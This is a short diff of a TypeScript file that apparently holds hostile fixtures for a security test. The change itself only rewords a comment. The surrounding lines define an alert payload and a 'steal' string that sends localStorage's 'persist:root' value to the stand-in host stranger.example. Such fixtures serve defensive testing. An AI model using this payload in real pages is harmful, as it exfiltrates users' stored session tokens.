@@ -9,7 +9,7 @@ export interface HostileAnswer {
 export const stranger = 'https://stranger.example';
 /** What harm is done with: it is seen by the journey whether it runs in the page, in a picture or in a file. */
 export const run = 'window.__ran=1;alert(1)';
-/** Takes the tokens of whoever reads. */
+/** Takes the reader's tokens. */
 export const steal = `fetch('${stranger}/'+encodeURIComponent(localStorage.getItem('persist:root')))`;
 
 export const fence = (language: string, source: string, marker = '```') =>
